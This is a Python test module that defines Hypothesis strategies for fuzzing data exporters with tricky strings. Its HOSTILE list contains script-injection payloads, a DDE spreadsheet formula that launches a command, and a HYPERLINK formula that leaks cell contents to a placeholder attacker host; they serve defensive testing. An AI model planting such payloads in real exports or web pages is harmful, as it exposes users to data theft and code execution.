"""Text for test data: hostile fragments that break naive exporters, plain names, event ids."""

from __future__ import annotations

from typing import TYPE_CHECKING

from hypothesis import strategies as st

if TYPE_CHECKING:
    from collections.abc import Sequence

#: Fragments that break naive exporters: markup, quotes, entities, line breaks, separators, formula payloads,
#: emoji, CJK, a line separator, a dangerous URL scheme, a byte-order mark.
HOSTILE = (
    "<script>alert(1)</script>",
    "</script>",
    '"',
    "'",
    "&",
    "&amp;",
    "&lt;b&gt;",
    "<b>bold</b>",
    "\n",
    "\r\n",
    "\r",
    ",",
    ";",
    "\t",
    "=1+2",
    "-",
    "@",
    "+",
    "😀",
    "中文",
    "\u2028",
    "javascript:alert(1)",
    " ",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-5",
    "+1",
    "\t=1",
    "\r=1",
    "\ufeff",
)


def hostile_text_of(pieces: Sequence[str], *, max_size: int) -> st.SearchStrategy[str]:
    """Non-empty text mixing any characters with `pieces` (fragments that are markup in the format tested)."""
    fragment = st.one_of(
        st.characters(codec="utf-8", exclude_categories=["Cs"]), st.sampled_from(list(pieces))
    )
    return st.lists(fragment, min_size=1, max_size=max_size).map("".join)


_pieces = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=8))
#: Text made of `HOSTILE` fragments and arbitrary characters; never empty.
hostile_text = st.lists(_pieces, min_size=1, max_size=6).map("".join).filter(bool)
#: Event ids: 1-200 characters without surrounding whitespace, hostile ones included.
ids = hostile_text.map(lambda s: s.strip()[:200]).filter(bool)
#: Plain names: 1-30 characters of any UTF-8 text.
names = st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), min_size=1, max_size=30)
#: Plain event ids: UUIDs and slugs.
plain_ids = st.uuids().map(str) | st.from_regex(r"[a-z][a-z0-9-]{0,30}", fullmatch=True)
